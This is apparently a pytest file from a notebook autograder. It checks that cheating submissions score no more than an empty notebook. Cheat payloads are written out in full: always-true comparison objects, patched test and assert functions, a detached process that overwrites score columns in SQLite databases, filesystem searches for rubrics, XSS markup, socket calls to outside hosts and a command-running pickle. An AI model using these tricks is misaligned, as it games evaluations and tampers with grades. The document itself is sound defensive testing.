"""The cheats that fooled two well-known graders: here each scores what an honest nothing scores.

Each is put on top of a notebook that does nothing, so that its grade has to be that notebook's, to
the item; the two that leave early are held against an honest one that stops with an error.
"""

import pytest

from tests.attacks.arena import MARK, Arena, Batch, Submission, assert_nobody_else_is_touched
from tests.attacks.class_folder import LOAD, NOTHING, TRAINING, WRONG, files
from tests.attacks.test_attacks_on_surroundings import touching

pytestmark = [pytest.mark.sandbox, pytest.mark.torch]

FAKE_OBJECT = """\
class Net:
    def parameters(self): return [self]
    def numel(self): return 29642
    def __call__(self, rows): return torch.eye(10)[y[:len(rows)]]
    def __repr__(self): return "784 -> 32 -> relu -> 64 -> relu -> 32 -> relu -> 10"
net = deep_net = model = Net()
accuracy = test_accuracy = acc = 0.991
losses, epochs = [2.3, 0.9, 0.1], 50
print(net, "29,642 parameters, test accuracy 99.1 %, loss 0.1 after 50 epochs")
"""
OPERATORS = """\
class Always(float):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __ne__ = lambda self, other: True
    __hash__ = float.__hash__
    def __round__(self, digits=0): return self
    def __float__(self): return 1.0
accuracy = parameters = answer = result = Always(0.5)
"""
TEST_CLASS = """\
import builtins, gc, unittest
for kind in [o for o in gc.get_objects() if isinstance(o, type)]:
    if "test" in kind.__name__.lower() or "check" in kind.__name__.lower():
        for name in ("run", "check", "grade", "score", "passed"):
            try: setattr(kind, name, lambda *a, **k: True)
            except (TypeError, AttributeError): pass
for name in [n for n in dir(unittest.TestCase) if n.startswith("assert")]:
    setattr(unittest.TestCase, name, lambda *a, **k: None)
get_ipython().input_transformers_cleanup.append(
    lambda lines: [line.replace("assert ", "None and ") for line in lines])
"""
NO_EXAMPLES = """\
import doctest
doctest.DocTestFinder.find = lambda *a, **k: []
doctest.DocTestRunner.run = lambda *a, **k: doctest.TestResults(0, 3)
doctest.run_docstring_examples = lambda *a, **k: None
"""
NO_ASSERTS = """\
import ast
class Dropped(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Dropped())
"""
DETACHED = f"""\
import os, subprocess, sys
code = '''
import glob, sqlite3, sys, time
for _ in range(300):
    for path in glob.glob("/**/*.sqlite", recursive=True) + glob.glob("/**/*.db", recursive=True):
        try:
            base = sqlite3.connect(path)
            for table, in base.execute("select name from sqlite_master where type = 'table'"):
                for column in ("score", "manual_score", "auto_score", "points", "document"):
                    try: base.execute(f"update {{table}} set {{column}} = 100")
                    except sqlite3.Error: pass
            base.commit()
        except (sqlite3.Error, OSError): pass
    for path in glob.glob("/**/grades.csv", recursive=True):
        try: open(path, "w").write("id,points\\\\n")
        except OSError: pass
    time.sleep(0.2)
'''
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", code, "{MARK}"], start_new_session=True)
    os._exit(0)
os.wait()
"""
READ = """\
import os
names, seen = ("solution", "rubric", "verdict.json", "expected", "aa-trained", "zz-untrained"), []
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f != "site-packages"
                  and not os.path.join(folder, f).startswith(("/proc", "/sys", "/usr", "/dev"))]
    for name in files:
        if name.startswith(names) or name.endswith(".ipynb"):
            path = os.path.join(folder, name)
            try: seen.append((path, len(open(path, "rb").read())))
            except OSError: pass
print("seen", [path for path, _ in seen if not path.endswith("/read.ipynb")])
"""
MARKUP = """\
from IPython.display import HTML, display
display(HTML("<script>document.title='20 / 20'</script><img src=x onerror=alert(1)>"))
print("<script>alert(1)</script><img src=x onerror=alert(1)>")
"""
FLOOD = "for _ in range(200): print('20 / 20 ' * 12_800)"
SOCKET = """\
import socket
for host, port in (("203.0.113.9", 443), ("weights.example.org", 80)):
    try: socket.create_connection((host, port), timeout=1).send(b"labels please")
    except OSError: pass
"""

STOPS = (LOAD, "raise SystemError('honest')")
ON_TOP: dict[str, Submission] = {
    "fake-object": (LOAD, FAKE_OBJECT),
    "operators": (LOAD, OPERATORS),
    "test-class": (LOAD, TEST_CLASS),
    "no-examples": (LOAD, NO_EXAMPLES),
    "no-asserts": (LOAD, NO_ASSERTS),
    "detached": (LOAD, DETACHED),
    "read": (LOAD, READ),
    "markup": (LOAD, MARKUP),
    "flood": (LOAD, FLOOD),
    "socket": (LOAD, SOCKET),
}
ENDING: dict[str, Submission] = {
    "leaves-hard": (LOAD, "import os; os._exit(0)", "print('after')"),
    "leaves": (LOAD, "import sys; sys.exit(0)", "print('after')"),
}


def poisoned(arena: Arena) -> Submission:
    """The result in place of which a pickle lies that runs a command."""
    payload = touching(arena.home / "touched-by-a-cheat")
    write = "import pathlib\nfor name in ('results.pkl', 'result.joblib', '/grade/out/r.pkl'):"
    write += f"\n    try: pathlib.Path(name).write_bytes({payload!r})\n    except OSError: pass"
    return files({"results.pkl": payload, "submission.pickle": payload}, LOAD, write)


@pytest.fixture(scope="module")
def batch(arena: Arena, quiet: Batch) -> Batch:
    honest: dict[str, Submission] = {
        "nothing-loaded": (LOAD, *NOTHING),
        "stops": STOPS,
        "wrong": (LOAD, TRAINING, WRONG),
    }
    cheats = {**ON_TOP, **ENDING, "pickle": poisoned(arena)}
    return arena.grade("cheats", {**honest, **cheats}, "--workers", "2")


def test_the_neighbours_notice_nothing(batch: Batch, quiet: Batch, arena: Arena) -> None:
    assert_nobody_else_is_touched(batch, quiet)
    assert not (arena.home / "touched-by-a-cheat").exists()


ROWS = {
    "fake-object": 2, "operators": 3, "test-class": 4, "no-examples": 4, "no-asserts": 4,
    "detached": 15, "read": 13, "markup": 31, "flood": 23, "socket": 24, "pickle": 10,
}  # fmt: skip


@pytest.mark.parametrize(
    "name", [pytest.param(name, marks=pytest.mark.row(row)) for name, row in ROWS.items()]
)
def test_a_cheat_scores_what_an_honest_nothing_scores(batch: Batch, name: str) -> None:
    assert batch.outcomes(name) == batch.outcomes("nothing-loaded")
    assert batch.verdict(name)["grade"] == batch.verdict("nothing-loaded")["grade"]


@pytest.mark.row(16)
@pytest.mark.parametrize("name", ENDING)
def test_leaving_early_scores_what_an_honest_error_scores(batch: Batch, name: str) -> None:
    assert batch.verdict(name)["grade"] == batch.verdict("stops")["grade"]
    assert batch.earned(name) == set()


def test_an_honest_wrong_answer_earns_no_more_than_that_it_runs(batch: Batch) -> None:
    assert batch.earned("wrong") <= {"4/runs"}


@pytest.mark.row(13)
def test_no_other_submission_and_no_solution_is_there_to_be_read(batch: Batch) -> None:
    assert batch.printed_by("read") == "seen []\n"


@pytest.mark.row(24)
def test_whom_a_cheat_tried_to_call_is_told(batch: Batch) -> None:
    told = " ".join(each["sentence"] for each in batch.concerns("socket"))

    assert "203.0.113.9" in told
    assert "weights.example.org" in told
